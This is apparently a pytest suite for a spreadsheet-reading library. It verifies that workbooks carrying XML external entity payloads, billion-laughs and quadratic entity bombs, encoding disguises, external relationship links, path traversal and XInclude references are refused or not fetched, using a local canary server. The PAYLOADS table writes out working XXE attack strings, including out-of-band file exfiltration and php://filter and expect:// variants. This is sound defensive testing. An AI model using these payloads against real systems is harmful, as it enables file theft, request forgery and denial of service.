"""No document type, no entity, nothing fetched: in any part, in any encoding, from any kind of file, whatever it refers to."""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from itertools import product

import pytest
from hostile_cost import cost_of
from reading_corpus import attempt, cells_of, inline, layout, refusal, text_file, workbook_parts, write_parts

from loadsheet.problems import Problem

ASKED = layout("Order")
HEAD = inline("Order", number=1)
CANARY = "the-canary-was-read"

PAYLOADS = {  # what stands between the declaration of a part and its first element; {file} and {url} are canaries
    "entity from a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>',
    "entity from the web": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>',
    "entity by https": '<!DOCTYPE x [<!ENTITY e SYSTEM "https://127.0.0.1:9/x">]>',
    "entity by ftp": '<!DOCTYPE x [<!ENTITY e SYSTEM "ftp://127.0.0.1:9/x">]>',
    "entity by a share": '<!DOCTYPE x [<!ENTITY e SYSTEM "\\\\127.0.0.1\\x">]>',
    "entity by php": '<!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource={file}">]>',
    "entity by jar": '<!DOCTYPE x [<!ENTITY e SYSTEM "jar:{url}!/x">]>',
    "entity by expect": '<!DOCTYPE x [<!ENTITY e SYSTEM "expect://id">]>',
    "entity from data": '<!DOCTYPE x [<!ENTITY e SYSTEM "data:text/plain;base64,eA==">]>',
    "public entity": '<!DOCTYPE x [<!ENTITY e PUBLIC "-//x//y" "{url}">]>',
    "parameter entity from a file": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{file}"> %p;]>',
    "parameter entity from the web": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>',
    "file sent to the web": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'{url}?%f;\'>">%a;%s;]>',
    "file told by an error": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'file:///%f;\'>">%a;%s;]>',
    "parameter entity redefined": "<!DOCTYPE x [<!ENTITY % p \"<!ENTITY e 'x'>\"> %p;]>",
    "document type from a file": '<!DOCTYPE x SYSTEM "{file}">',
    "document type from the web": '<!DOCTYPE x SYSTEM "{url}">',
    "public document type": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}">',
    "document type from both": '<!DOCTYPE x SYSTEM "{url}" [<!ENTITY e "x">]>',
    "document type alone": "<!DOCTYPE x>",
    "empty document type": "<!DOCTYPE x []>",
    "billion laughs": "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>",
    "quadratic blow-up": f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'><!ENTITY b '{'&a;' * 1_000}'>]>",
    "laughs of parameter entities": "<!DOCTYPE x [<!ENTITY % a 'ha'><!ENTITY % b '%a;%a;'>%b;]>",
    "entity of itself": "<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>",
    "entity of markup": "<!DOCTYPE x [<!ENTITY e '<row r=\"2\"/>'>]>",
    "entity named as a predefined one": "<!DOCTYPE x [<!ENTITY lt '&#38;#60;'>]>",
    "entity that is not used": "<!DOCTYPE x [<!ENTITY e 'x'>]>",
    "unparsed entity": '<!DOCTYPE x [<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{file}" NDATA n>]>',
    "default of an attribute": '<!DOCTYPE x [<!ATTLIST sheet state CDATA "hidden">]>',
    "fixed namespace": '<!DOCTYPE x [<!ATTLIST x xmlns CDATA #FIXED "{url}">]>',
    "element": "<!DOCTYPE x [<!ELEMENT x ANY>]>",
    "notation": '<!DOCTYPE x [<!NOTATION n SYSTEM "{url}">]>',
    "comment before it": '<!-- <!-x --><!DOCTYPE x SYSTEM "{url}">',
    "comments that hide it": f'<!--{"x" * 30_000}--><!DOCTYPE x SYSTEM "{{url}}">',
    "instruction before it": '<?x y?><!DOCTYPE x SYSTEM "{url}">',
    "space before it": "\n\t \r\n" * 500 + '<!DOCTYPE x SYSTEM "{url}">',
    "comment inside it": '<!DOCTYPE x [<!-- y --><!ENTITY e SYSTEM "{file}">]>',
    "instruction inside it": '<!DOCTYPE x [<?y z?><!ENTITY e SYSTEM "{file}">]>',
    "line breaks inside it": '<!DOCTYPE\n\nx\n[\n<!ENTITY\ne\nSYSTEM\n"{file}"\n>\n]\n>',
    "entity by numbers": "<!DOCTYPE x [<!ENTITY e \"&#60;!ENTITY f SYSTEM '{file}'&#62;\">]>",
    "standalone denied": '<!DOCTYPE x SYSTEM "{file}" [<!ENTITY % all "{url}">]>',
}
PARTS = [
    "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml", "_rels/.rels",
    "xl/_rels/workbook.xml.rels", "docProps/core.xml", "xl/drawings/vmlDrawing1.vml", "customXml/item1.xml", "xl/theme/theme1.xml",
    "xl/externalLinks/externalLink1.xml",
]  # fmt: skip
ENCODINGS = {
    "utf-8": ("utf-8", ""),
    "utf-8 with its mark": ("utf-8-sig", "utf-8"),
    "utf-16": ("utf-16", ""),
    "utf-16 big end first": ("utf-16-be", "utf-16"),
    "latin-1": ("latin-1", "iso-8859-1"),
    "ascii": ("ascii", "us-ascii"),
    "cp1252": ("cp1252", "windows-1252"),
    "koi8": ("koi8-r", "koi8-r"),
}


@contextmanager
def listening():
    """A web server that notes what it is asked for, and the address it listens at."""
    hits = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_):
            pass

    with HTTPServer(("127.0.0.1", 0), Noting) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield hits, f"http://127.0.0.1:{server.server_port}/x"
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def web():
    with listening() as (hits, url):
        yield url
        assert hits == []


@pytest.fixture
def filled(tmp_path, web):
    """Puts the canaries into a payload."""
    canary = text_file(tmp_path, CANARY, "canary.txt")
    return lambda payload: payload.replace("{file}", canary.as_uri()).replace("{url}", web)


def spoilt(folder, part, markup, encoding="utf-8", declared=""):
    """A workbook with this markup at the beginning of a part, and a reference to the entity in its only cell."""
    parts = workbook_parts(HEAD + inline("A1&e;", number=2))
    body = parts.get(part, "<x/>").split("?>")[-1]
    mark = "\ufeff" if encoding == "utf-16-be" else ""
    begin = f'{mark}<?xml version="1.0" encoding="{declared or encoding}"?>'
    parts[part] = (begin + markup + body).encode(encoding)
    return write_parts(folder / "orders.xlsx", parts)


@pytest.mark.parametrize(("place", "payload"), list(enumerate(PAYLOADS)), ids=PAYLOADS)
def test_no_payload_gets_past_any_part(tmp_path, filled, place, payload):
    """Each payload in three of the parts, so that each part meets a dozen of them; and in one more of a file that is read apart."""
    chosen = [PARTS[(place + step) % len(PARTS)] for step in (0, 4, 8, 1)]
    for part, mode in zip(chosen, ("none", "none", "none", "child"), strict=True):
        problem = refusal(spoilt(tmp_path, part, filled(PAYLOADS[payload])), ASKED, reading_process=mode)
        assert (problem.code, problem.values["part"].lower()) == ("R234", part.lower())
        assert CANARY not in str(problem)


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_encoding_hides_a_payload(tmp_path, filled, encoding):
    for payload in ("entity from a file", "parameter entity from the web", "billion laughs", "comments that hide it"):
        for part in PARTS:
            path = spoilt(tmp_path, part, filled(PAYLOADS[payload]), *ENCODINGS[encoding])
            assert refusal(path, ASKED, reading_process="none").code == "R234"


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "cp037", "utf-16-le", "idna", "rot13", "shift_jis", "hz"])
def test_an_encoding_that_no_workbook_uses_is_damage_or_no_disguise(tmp_path, filled, encoding):
    markup = filled(PAYLOADS["entity from a file"])
    body = f'<?xml version="1.0" encoding="{encoding}"?>{markup}<worksheet><sheetData>{HEAD}</sheetData></worksheet>'
    content = body.encode() if encoding in ("idna", "rot13") else body.encode(encoding)
    path = write_parts(tmp_path / "a.xlsx", workbook_parts() | {"xl/worksheets/sheet1.xml": content})
    assert refusal(path, ASKED).code in ("R201", "R234")


@pytest.mark.parametrize(
    "markup", ['<!doctype x SYSTEM "{url}">', '<!DOCTYPEx SYSTEM "{url}">', '<x/><!DOCTYPE y SYSTEM "{url}">']
)
def test_what_only_looks_like_a_document_type_is_damage(tmp_path, filled, markup):
    path = spoilt(tmp_path, "xl/worksheets/sheet1.xml", filled(markup))
    assert refusal(path, ASKED).code in ("R201", "R234")


@pytest.mark.parametrize("payload", ["entity from a file", "document type from the web", "billion laughs"])
@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "META-INF/manifest.xml", "meta.xml"])
def test_an_opendocument_is_treated_alike(tmp_path, filled, payload, part):
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    parts = {"mimetype": kind, "content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"}
    parts[part] = f"<?xml version='1.0'?>{filled(PAYLOADS[payload])}<x/>"
    assert refusal(write_parts(tmp_path / "a.ods", parts), ASKED).code == "R234"


def test_entities_cost_their_reader_little_time_and_memory(tmp_path, filled):
    paths = []
    for number, payload in enumerate(PAYLOADS.values()):
        parts = workbook_parts(HEAD)
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = f"<?xml version='1.0'?>{filled(payload)}{sheet}"
        paths.append(write_parts(tmp_path / f"{number}.xlsx", parts))
    cost = cost_of(paths)
    assert len(paths) >= 40
    assert cost.codes == ["R234"] * len(paths)
    assert cost.peak_mb < 150, cost
    assert cost.cpu_s < 2 * len(paths), cost


def test_an_xml_file_is_not_parsed_at_all(tmp_path, filled):
    for payload in PAYLOADS.values():
        path = text_file(tmp_path, f"<?xml version='1.0'?>{filled(payload)}<Workbook/>", "a.xls")
        assert refusal(path, ASKED, reading_process="none").code == "R201"


# ---- what refers to something outside without an entity ----


LINKS = [
    "externalLink",
    "oleObject",
    "image",
    "hyperlink",
    "attachedTemplate",
    "worksheet",
    "sharedStrings",
    "styles",
    "vbaProject",
]


TARGETS = ("{url}", "{file}", "\\\\127.0.0.1\\share\\x.xlsx", "../../../../../../etc/passwd")


@pytest.mark.parametrize(("mode", "links"), [("child", LINKS[:2]), ("none", LINKS)])
def test_a_link_to_the_outside_is_not_followed(tmp_path, filled, mode, links):
    for link, target in product(links, TARGETS):
        parts = workbook_parts(HEAD + inline("A1", number=2))
        relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        outside = f'<Relationship Id="rIdX" Type="{relations}/{link}" Target="{filled(target)}" TargetMode="External"/>'
        for part in ("xl/_rels/workbook.xml.rels", "_rels/.rels"):
            parts[part] = parts[part].replace("</Relationships>", f"{outside}</Relationships>")
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = f"<Relationships>{outside}</Relationships>"
        path = write_parts(tmp_path / "a.xlsx", parts)
        assert cells_of(path, ASKED, reading_process=mode) == [["A1"]]


@pytest.mark.parametrize("mode", ["child", "none"])
def test_inclusions_style_sheets_and_schemas_are_not_fetched(tmp_path, filled, mode):
    parts = workbook_parts(HEAD + inline("A1", number=2))
    sheet = parts["xl/worksheets/sheet1.xml"]
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>'
    schema = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {url}"'
    for change in (
        sheet.replace("<worksheet", '<?xml-stylesheet type="text/xsl" href="{url}"?><worksheet'),
        sheet.replace("<sheetData>", f"{include}<sheetData>"),
        sheet.replace("<worksheet", f"<worksheet{schema}"),
        sheet.replace("<sheetData>", '<f>WEBSERVICE("{url}")</f><sheetData>'),
    ):
        path = write_parts(tmp_path / "a.xlsx", parts | {"xl/worksheets/sheet1.xml": filled(change)})
        assert cells_of(path, ASKED, reading_process=mode) == [["A1"]]


def test_a_link_from_a_part_to_outside_the_package_finds_nothing(tmp_path, filled):
    for target in ("../../../../canary.txt", "/canary.txt", "{file}", "{url}"):
        parts = workbook_parts(HEAD)
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            "worksheets/sheet1.xml", filled(target)
        )
        found = attempt(write_parts(tmp_path / "a.xlsx", parts), ASKED)
        assert isinstance(found, Problem)
        assert CANARY not in str(found)
